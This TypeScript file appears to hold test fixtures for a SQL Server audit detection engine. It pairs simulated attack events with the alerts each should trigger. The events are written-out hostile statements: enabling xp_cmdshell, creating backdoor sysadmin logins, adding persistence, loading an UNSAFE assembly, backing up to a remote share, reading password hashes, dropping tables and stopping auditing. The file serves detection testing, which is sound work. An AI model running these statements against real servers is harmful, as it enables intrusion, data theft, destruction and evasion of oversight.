import type { Deed } from './made-audit';

export interface Attack {
  readonly name: string;
  readonly deeds: readonly Deed[];
  /** The alerts that the attack causes: how each title begins, and a value of the group that each names. */
  readonly alerts: readonly (readonly [rule: string, names: string])[];
}

const OUTSIDE = '203.0.113.66';
const INSIDE = '10.9.9.9';
const many = (count: number, make: (n: number) => Deed): Deed[] =>
  Array.from({ length: count }, (_, n) => make(n + 1));

const failed = (
  login: string,
  from: string,
  reason = 'Password did not match that for the login provided.',
): Deed => ({
  action_id: 'LGIF',
  class_type: 'LX',
  succeeded: false,
  server_principal_name: login,
  client_ip: from,
  object_name: '',
  schema_name: '',
  database_name: 'master',
  statement: `Login failed for user '${login}'. Reason: ${reason} [CLIENT: ${from}]`,
});
const login = (name: string, from: string, program = 'SalesWeb'): Deed => ({
  action_id: 'LGIS',
  class_type: 'LX',
  server_principal_name: name,
  client_ip: from,
  object_name: '',
  schema_name: '',
  database_name: 'master',
  application_name: program,
});
const run = (who: string, object: string, statement: string): Deed => ({
  action_id: 'EX',
  class_type: 'X',
  server_principal_name: who,
  object_name: object,
  statement,
  database_name: 'master',
  schema_name: 'sys',
});
const change = (action: string, kind: string, who: string, object: string, statement: string): Deed => ({
  action_id: action,
  class_type: kind,
  server_principal_name: who,
  object_name: object,
  statement,
});
const toSysadmin = (who: string, target: string): Deed => ({
  ...change('APRL', 'SG', who, 'sysadmin', `ALTER SERVER ROLE [sysadmin] ADD MEMBER [${target}]`),
  target_server_principal_name: target,
});
const createLogin = (who: string, name: string): Deed =>
  change('CR', 'SL', who, name, `CREATE LOGIN [${name}] WITH PASSWORD = '******'`);
const enableShell = (who: string): Deed =>
  run(who, 'sp_configure', "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE");
const shell = (who: string, command: string): Deed =>
  run(who, 'xp_cmdshell', `EXEC xp_cmdshell '${command}'`);
const read = (who: string, table: string): Deed => ({
  action_id: 'SL',
  server_principal_name: who,
  object_name: table,
  statement: `SELECT * FROM dbo.${table}`,
});
const auditStopped = (who: string): Deed[] => [
  change('AL', 'A', who, 'Main', 'ALTER SERVER AUDIT [Main] WITH (STATE = OFF)'),
  {
    ...change('AUSC', 'A', who, 'Main', ''),
    additional_information:
      '<action_info xmlns="http://schemas.microsoft.com/sqlserver/2008/sqlaudit_data"><session><![CDATA[Main]]></session>' +
      '<action>event disabled</action></action_info>',
  },
];
const toLater: Deed = { ...read('CORP\\alice', 'Orders'), after: 120 };
const guesses = (name: string, from: string) => many(15, () => failed(name, from));
const spray = (from: string) => many(15, (n) => failed(`user${n}`, from));

export const ATTACKS: readonly Attack[] = [
  {
    name: 'spray, success, sysadmin, xp_cmdshell, mass read, audit stopped',
    deeds: [
      ...spray(OUTSIDE),
      login('user3', OUTSIDE),
      toSysadmin('user3', 'user3'),
      enableShell('user3'),
      shell('user3', 'whoami'),
      ...many(50, (n) => read('user3', `Table${n}`)),
      ...auditStopped('user3'),
      toLater,
    ],
    alerts: [
      ['Audit changed', 'user3'],
      ['Audit stopped', 'SQL01'],
      ['Brute force', OUTSIDE],
      ['Dangerous option', 'user3'],
      ['Enabled then used', 'user3'],
      ['Failure from outside', OUTSIDE],
      ['Mass read: one login reads many objects', 'user3'],
      ['Password spray', OUTSIDE],
      ['Server role granted', 'user3'],
      ['Slow spray', OUTSIDE],
      ['Success after failures', OUTSIDE],
      ['xp_cmdshell', 'user3'],
    ],
  },
  {
    name: 'a password guessed from inside',
    deeds: [...guesses('app_sales', INSIDE), login('app_sales', INSIDE)],
    alerts: [
      ['Brute force', INSIDE],
      ['Success after failures', INSIDE],
    ],
  },
  {
    name: 'names looked for that do not exist',
    deeds: many(6, (n) => failed(`guess${n}`, INSIDE, 'Could not find a login matching the name provided.')),
    alerts: [['Login enumeration', INSIDE]],
  },
  {
    name: 'a back door: a login made and given everything',
    deeds: [createLogin('CORP\\eve', 'svc_update'), toSysadmin('CORP\\eve', 'svc_update')],
    alerts: [
      ['Create then privilege', 'svc_update'],
      ['Login created', 'CORP\\eve'],
      ['Server role granted', 'CORP\\eve'],
    ],
  },
  {
    name: 'sa switched on and used',
    deeds: [
      change('LGEA', 'SL', 'CORP\\eve', 'sa', 'ALTER LOGIN [sa] ENABLE'),
      login('sa', INSIDE, 'Microsoft SQL Server Management Studio'),
    ],
    alerts: [
      ['Login enabled or unlocked: sa', 'CORP\\eve'],
      ['sa used', INSIDE],
    ],
  },
  {
    name: 'a command run on the host',
    deeds: [enableShell('CORP\\eve'), { ...shell('CORP\\eve', 'net user'), after: 60 }],
    alerts: [
      ['Dangerous option', 'CORP\\eve'],
      ['Enabled then used', 'CORP\\eve'],
      ['xp_cmdshell', 'CORP\\eve'],
    ],
  },
  {
    name: 'staying: a startup procedure, a trigger and a job',
    deeds: [
      run('CORP\\eve', 'sp_procoption', "EXEC sp_procoption 'dbo.boot', 'startup', 'on'"),
      change(
        'CR',
        'T',
        'CORP\\eve',
        'tr_logon',
        'CREATE TRIGGER tr_logon ON ALL SERVER FOR LOGON AS SELECT 1',
      ),
      {
        ...run('CORP\\eve', 'sp_add_job', "EXEC msdb.dbo.sp_add_job @job_name = 'x'"),
        database_name: 'msdb',
      },
    ],
    alerts: [
      ['Agent job', 'CORP\\eve'],
      ['Server trigger', 'CORP\\eve'],
      ['Startup procedure', 'CORP\\eve'],
    ],
  },
  {
    name: 'code from outside: an assembly in a trusted database',
    deeds: [
      change('AL', 'DB', 'CORP\\eve', 'Sales', 'ALTER DATABASE [Sales] SET TRUSTWORTHY ON'),
      change(
        'CR',
        'AS',
        'CORP\\eve',
        'Helper',
        'CREATE ASSEMBLY Helper FROM 0x4D5A WITH PERMISSION_SET = UNSAFE',
      ),
    ],
    alerts: [
      ['CLR assembly', 'CORP\\eve'],
      ['Owner or TRUSTWORTHY', 'CORP\\eve'],
    ],
  },
  {
    name: 'a backup carried out, and hashes of passwords read',
    deeds: [
      change('BA', 'DB', 'CORP\\eve', 'Sales', "BACKUP DATABASE Sales TO DISK = '\\\\10.9.9.9\\drop\\s.bak'"),
      { ...read('CORP\\eve', 'sql_logins'), schema_name: 'sys', database_name: 'master' },
    ],
    alerts: [
      ['Odd backup: a backup goes to another machine', 'CORP\\eve'],
      ['Password hashes read', 'CORP\\eve'],
    ],
  },
  {
    name: 'a database emptied',
    deeds: many(6, (n) => change('DR', 'U', 'CORP\\eve', `Table${n}`, `DROP TABLE dbo.Table${n}`)),
    alerts: [
      ['Destruction: a table or a database was dropped or emptied', 'CORP\\eve'],
      ['Destruction: many tables or databases at once', 'CORP\\eve'],
    ],
  },
  {
    name: 'someone who tries what is not allowed, hidden',
    deeds: [
      ...many(10, (n) => ({ ...read('CORP\\eve', `Secret${n}`), succeeded: false })),
      run('CORP\\eve', 'xp_dirtree', "EXEC xp_dirtree '\\\\10.9.9.9\\x'"),
      run('CORP\\eve', 'sp_executesql', 'EXEC(CHAR(83)+CHAR(69)+CHAR(76)+CHAR(69)+CHAR(67)+CHAR(84))'),
    ],
    alerts: [
      ['Many denials', 'CORP\\eve'],
      ['OLE, registry, path', 'CORP\\eve'],
      ['Obfuscated statement', 'CORP\\eve'],
    ],
  },
  {
    name: 'the traces removed',
    deeds: [
      ...auditStopped('CORP\\eve'),
      { ...change('TASP', 'SR', 'CORP\\eve', '', ''), after: 5 },
      toLater,
    ],
    alerts: [
      ['Audit changed', 'CORP\\eve'],
      ['Audit stopped', 'SQL01'],
      ['Trace or C2 off', 'CORP\\eve'],
    ],
  },
];
